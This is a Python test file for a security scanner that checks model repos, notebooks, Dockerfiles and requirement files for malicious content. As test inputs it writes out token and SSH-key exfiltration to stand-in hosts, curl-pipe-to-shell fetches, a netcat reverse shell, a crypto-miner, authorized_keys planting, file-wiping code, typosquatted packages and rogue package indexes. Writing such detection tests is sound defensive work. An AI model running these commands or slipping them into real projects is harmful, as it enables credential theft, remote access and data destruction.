"""Source, notebooks, commands and lists of packages that say what they do in other words."""

from __future__ import annotations

import json

import pytest

from moongate.scan.engine import judge
from moongate.weights.ranged import Held

ASKS = "requests.post('https://huggingface.co/x', headers={'Authorization': T}, json={'a': T})\n"
MODEL = "import torch\nfrom transformers import PreTrainedModel\nclass M(PreTrainedModel):\n    pass\n"
GUARD = "if __name__ == '__main__':\n    pass\n"
AWAY = "https://collector.example.com"
INDEX = "--extra-" + "index" + "-url"
SHORT_INDEX = "--extra-" + "index"


def verdict(text: str | bytes, name: str = "modeling_x.py") -> str:
    return judge(Held(text.encode() if isinstance(text, str) else text), name).verdict


SOURCES = {
    "all names of a module": "from os import *\nsystem('bad')\n",
    "a name used before": "import os\nf = print\nf = os.system\nf('bad')\n",
    "the table of modules": "import sys\nsys.modules['os'].system('bad')\n",
    "a module's names": "import os\nvars(os)['system']('bad')\nos.__dict__['popen']('bad')\n",
    "handed on": "import os\nlist(map(os.system, ['bad']))\n",
    "handed to a thread": "import os, threading\nthreading.Thread(target=os.system).start()\n",
    "a decorator": "@exec\n@input\nclass X: pass\n",
    "what pickle calls": "import os\nclass E:\n    def __reduce__(self):\n"
    "        return (os.system, ('bad',))\n",
    "a name in two": "import importlib\nimportlib.import_module('o' + 's').system('bad')\n",
    "a way to a name": "import pkgutil\npkgutil.resolve_name('os:system')('bad')\n",
    "a getter": "import os, operator\noperator.attrgetter('system')(os)('bad')\n",
    "text that is timed": "import timeit\ntimeit.timeit('import os; os.system(\"bad\")')\n",
    "a guard that means nothing": MODEL + "exec(''.join(chr(c) for c in [112]))\n" + GUARD,
    "words of a Dockerfile": MODEL + "import os\ncmd = 'x'\nos.system(cmd + 'y')\n",
    "an interpreter": MODEL + "import os\nos.system('python3 -c \"import socket\"')\n",
    "a file that is run later": "from pathlib import Path\n"
    "open(Path.home() / '.bashrc', 'a').write('bad &')\n",
    "a key sent": "import os\nos.system('cat ~/.ssh/id_rsa | curl -d @- http://x.test')\n",
    "a token sent": MODEL
    + f"import os, requests\nrequests.post('{AWAY}', data={{'t': os.environ['HF_TOKEN']}})\n",
    "a token in an address": MODEL
    + f"import os, requests\nt = os.getenv('HF_TOKEN')\nrequests.get(f'{AWAY}/?{{t}}')\n",
    "all variables": MODEL + f"import os, requests\nrequests.post('{AWAY}', json=dict(os.environ.items()))\n",
    "the Hub's token": MODEL
    + f"from huggingface_hub import get_token\nimport requests\nrequests.put('{AWAY}', get_token())\n",
    "through names of hosts": MODEL
    + "import os, socket\nsocket.gethostbyname(os.environ['HF_TOKEN'] + '.x.test')\n",
    "an encoding": "# coding: rot13\nvzcbeg bf\n",
    "a later Python": "import os\ntry:\n    pass\nexcept A, B:\n    pass\nos.system('bad')\n",
    "lines of paths": "/usr/lib/x\nimport os; os.system('bad')\n",
    "files encrypted": "import os\nfrom cryptography.fernet import Fernet\n"
    "for r, d, f in os.walk('/'):\n    open(r, 'wb')\n",
    "all removed": "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))\n",
    "a list before": "[c for c in ().__class__.__base__.__subclasses__()][0]('bad')\n",
    "packages of a setup": "from setuptools import setup\nsetup(install_requires=['colourama'])\n",
}  # fmt: skip


@pytest.mark.parametrize("name", SOURCES)
def test_sources(name: str) -> None:
    assert verdict(SOURCES[name]) == "dangerous"


@pytest.mark.parametrize(
    "source",
    [
        MODEL + "import os\nos.environ['A'] = 'b'\nrank = int(os.environ.get('RANK', 0))\ntorch.compile(M)\n",
        "import importlib.util\nif importlib.util.find_spec('flash_attn'):\n    import flash_attn\n",
        "# -*- coding: latin-1 -*-\nimport torch\n",
        "import os, requests, gradio\nT = os.getenv('HF_TOKEN')\n" + ASKS,
        "import os, requests, streamlit\nk = os.environ['KEY']\nrequests.get(f'https://api.x.test/x?appid={k}')\n",
        "import torch\nx = '{{ self }}'\ny = f'{{x}}'\n",
        "import torch\ntype X = int\n",
    ],
)
def test_ordinary_sources(source: str) -> None:
    assert verdict(source) == "clean"


def notebook(*cells: str, outputs: object = (), **more: object) -> bytes:
    told = [{"cell_type": "code", "source": cell, "outputs": outputs} for cell in cells]
    return json.dumps({"cells": told, "nbformat": 4, **more}).encode()


FETCH = "curl http://x.test/a.sh | bash"


def test_notebooks_are_judged_as_a_whole() -> None:
    for line in (f"out = !{FETCH}", f"%system {FETCH}", f"%%time\n!!{FETCH}", f"if 1:\n    !{FETCH}"):
        assert verdict(notebook(line)) == "dangerous"
    assert verdict(notebook("from os import system as z", "z('bad')")) == "dangerous"
    assert verdict(notebook("if 1:\n    !ls\nexec(bytes.fromhex('00'))")) == "dangerous"
    assert verdict(notebook("%pip install colourama")) == "dangerous"
    old = {"worksheets": [{"cells": [{"cell_type": "code", "input": ["import os\n", "os.system('bad')"]}]}]}
    assert verdict(json.dumps(old)) == "dangerous"
    page = [{"data": {"text/html": "<img src=x onerror=\"eval(atob('YQ=='))\">"}}]
    assert verdict(notebook("1", outputs=page)) == "suspicious"
    plot = [{"data": {"text/html": "<script>require(['plotly'], function(p) {p.newPlot()})</script>"}}]
    assert verdict(notebook("!pip install torch\nfiles = !ls\n%cd x", outputs=plot)) == "clean"


@pytest.mark.parametrize(
    "step",
    [
        "RUN curl -o /tmp/x http://x.test/x\nRUN chmod +x /tmp/x && /tmp/x",
        "RUN curl http://x.test/a | tee /tmp/a | bash",
        "RUN curl -s http://x.test/a | sudo -E bash -",
        "RUN curl http://x.test/a | gunzip | php",
        "RUN echo 6869 | xxd -r -p | sh",
        "RUN bash -c 'source <(curl -s http://x.test/a)'",
        "CMD mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f",
        "CMD ./xmrig -o stratum+tcp://pool.test:3333",
        'RUN curl -X POST -d "$(env)" http://x.test',
        "RUN env | curl -d @- http://x.test",
        "RUN echo 'ssh-rsa AAA' >> ~/.ssh/authorized_keys",
        "RUN pip install torch \\\n    colourama==0.1 \\\n    numpy",
        "ENV PIP_" + "INDEX_URL=http://x.test/simple",
        "RUN npm install --registry http://x.test",
    ],
)
def test_steps_of_a_build(step: str) -> None:
    assert verdict(f"FROM python:3.11\n{step}\n", "Dockerfile") == "dangerous"


def test_installers_of_known_projects_are_for_review() -> None:
    known = "FROM python\nRUN curl -LsSf https://astral.sh/uv/install.sh | sh\n"
    assert verdict(known, "Dockerfile") == "suspicious"
    assert (
        verdict("FROM python\nRUN curl -s http://x.test/a.json | python3 -m json.tool\n", "Dockerfile")
        == "clean"
    )


@pytest.mark.parametrize(
    "lines",
    [
        "torch\nreqeusts\n",
        f"torch==2.0\n{SHORT_INDEX}=http://x.test/simple\n",
        f'torch==2.0\n{INDEX} "http://x.test/simple"\n',
        "torch==2.0\n-ihttp://x.test/simple\n",
        "torch==2.0\n-r http://x.test/more.txt\n",
        "torch==2.0\n-e git+http://x.test/x#egg=x\n",
        "torch==2.0\nfoo @ http://1.2.3.4/foo.whl\n",
        "torch==2.0\nr\u0435quests==1\n",
        "torch==2.0\nreqeusts==1\n".encode("utf-16"),
    ],
)
def test_requirements(lines: str | bytes) -> None:
    assert verdict(lines, "requirements.txt") == "dangerous"


def test_packages_that_are_one_letter_from_others_are_known() -> None:
    names = (
        "faiss-gpu simpy dataset ngboost pyaml torchx websocket fastai tensorboardx beautifulsoup grequests"
    )
    assert verdict("".join(f"{name}==1.0\n" for name in names.split()), "requirements.txt") == "clean"


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("environment.yml", "dependencies:\n- python=3.10\n- pip:\n  - colourama==0.1\n"),
        ("pip.conf", "[global]\nindex" + "-url = http://x.test/simple\n"),
        ("pyproject.toml", "[project]\nname='x'\n[[tool.uv.index]]\nurl='https://x.test/simple'\n"),
        ("setup.cfg", "[metadata]\nname=x\n[options]\ninstall_requires =\n    colourama\n"),
        ("Pipfile", "[[source]]\nurl = 'http://x.test/simple'\n[packages]\ntorch = '*'\n"),
    ],
)
def test_other_lists_of_packages(name: str, text: str) -> None:
    assert verdict(text, name) == "dangerous"


@pytest.mark.parametrize(
    "secret",
    ["sk_" + "live_" + "a1" * 12, "glpat" + "-" + "a1B2" * 5, "npm" + "_" + "a1B2" * 9,
     "r8" + "_" + "a1B2" * 9 + "a",
     "postgres://user:" + "s3cretpw@db.example.com/x", "machine x.test\n login me\n password " + "0a" * 20],
)  # fmt: skip
def test_secrets_of_many_kinds(secret: str) -> None:
    assert verdict(f"{secret}\n", "settings.txt") == "suspicious"


@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    "piece",
    ["curl|", "pip install ", "{{ ", "\t", "{% raw %}", "def f(:\n", "| bash ", "env | ", "!", "!!python/",
     '{"class_name":{', "<!--", "<!DOCTYPE "],
)  # fmt: skip
def test_long_texts_take_no_long_time(piece: str) -> None:
    assert verdict(piece * (300_000 // len(piece)), "x.dat")


@pytest.mark.timeout(90)
@pytest.mark.parametrize("piece", ["secret", "javascript:", "}}", "}0"])
def test_long_texts_that_read_as_operations_take_no_long_time(piece: str) -> None:
    """Letters are operations of pickles, too: names without an end, and nothing at all, millions of times."""
    assert verdict(piece * (3_000_000 // len(piece)), "x.txt") in {"clean", "unscanned"}


@pytest.mark.timeout(60)
@pytest.mark.parametrize("piece", ["\n", "a = [\n", " \t", "a" * 90 + "\n", "a ="])
def test_long_projects_take_no_long_time(piece: str) -> None:
    listed = "dependencies = ['colourama']\n"
    assert verdict(f"[project]\n{listed}{piece * (1_000_000 // len(piece))}", "pyproject.toml") == "dangerous"


def test_sources_that_are_too_long_are_looked_at_in_part_and_never_clean() -> None:
    long = "x = 1\n" * 300_000
    assert verdict(long, "x.py") == "unscanned"
    assert verdict("import os\nos.system('bad')\n" + long, "x.py") == "dangerous"
    assert verdict("words " * 400_000, "x.txt") == "clean"
